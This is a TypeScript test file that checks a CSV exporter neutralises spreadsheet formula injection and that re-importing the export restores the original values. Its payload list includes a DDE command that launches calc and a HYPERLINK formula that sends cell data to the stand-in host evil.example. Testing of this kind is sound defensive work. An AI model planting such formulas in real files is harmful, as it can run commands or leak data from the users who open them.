// CSV formula injection (OWASP): no exported cell is one a spreadsheet would evaluate, and importing the
// export restores every original value exactly, for every delimiter.
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { exportCsv } from '../../src/main/core/csv/export'
import { isDangerousCell } from '../../src/main/core/csv/excel-safe'
import { PRODUCT_FLAT_COLUMNS, productsFlat } from '../../src/main/core/csv/formats/products-flat'
import { planImport } from '../../src/main/core/csv/import'
import type { Delimiter } from '../../src/main/core/csv/types'
import { bytes, lookupOf, MemorySink, product } from '../unit/main/core/csv/helpers'

const PAYLOADS = [
  '=1+1',
  '=cmd|\' /C calc\'!A0',
  '+SUM(A1:A2)',
  '-2+3',
  '@SUM(1,2)',
  '\t=1',
  '\r=1',
  "'=already quoted",
  "''+twice",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  'plain',
  "'90s"
]

describe('csv formula injection', () => {
  for (const delimiter of [',', ';', '\t'] as Delimiter[]) {
    it(`export never emits an evaluable cell and the round trip restores the originals (${JSON.stringify(delimiter)})`, async () => {
      const before = PAYLOADS.map((p, i) => product(i + 1, { name: p, sku: `S${i}${p}`, description: p, seoTitle: p, compareToPrice: -(i + 0.5) }))
      const sink = new MemorySink()
      await exportCsv(before, productsFlat, sink, { delimiter, decimalSeparator: delimiter === ',' ? '.' : ',' })
      const rows = new Papa.Parser({ delimiter, newline: '\r\n' }).parse(sink.text().replace(/^\uFEFF/, ''), 0, false).data
      const numeric = new Set(PRODUCT_FLAT_COLUMNS.map((c, i) => (c.type === 'number' || c.type === 'integer' ? i : -1)))
      for (const row of rows.slice(1)) {
        row.forEach((cell, i) => {
          if (numeric.has(i) && /^-?\d+([.,]\d+)?$/.test(cell)) return
          expect(isDangerousCell(cell), `cell ${JSON.stringify(cell)}`).toBe(false)
        })
      }
      // Same ids, emptied text: importing the export must restore every payload exactly.
      const emptied = before.map((p) => ({ ...p, name: '', sku: '', description: '', seoTitle: '', compareToPrice: 0 }))
      const r = await planImport({ resource: 'products', source: bytes(sink.buffer()), lookup: lookupOf({ products: emptied }), validate: { decimalSeparator: delimiter === ',' ? '.' : ',' } })
      expect(r.invalid).toBe(0)
      for (const [i, p] of before.entries()) {
        const after = (field: string): unknown => r.changes.find((c) => c.entityId === p.id && c.field === field)?.after
        expect(after('name')).toBe(PAYLOADS[i])
        expect(after('sku')).toBe(p.sku)
        expect(after('description')).toBe(PAYLOADS[i])
        expect(after('compareToPrice')).toBe(p.compareToPrice)
      }
    })
  }
})
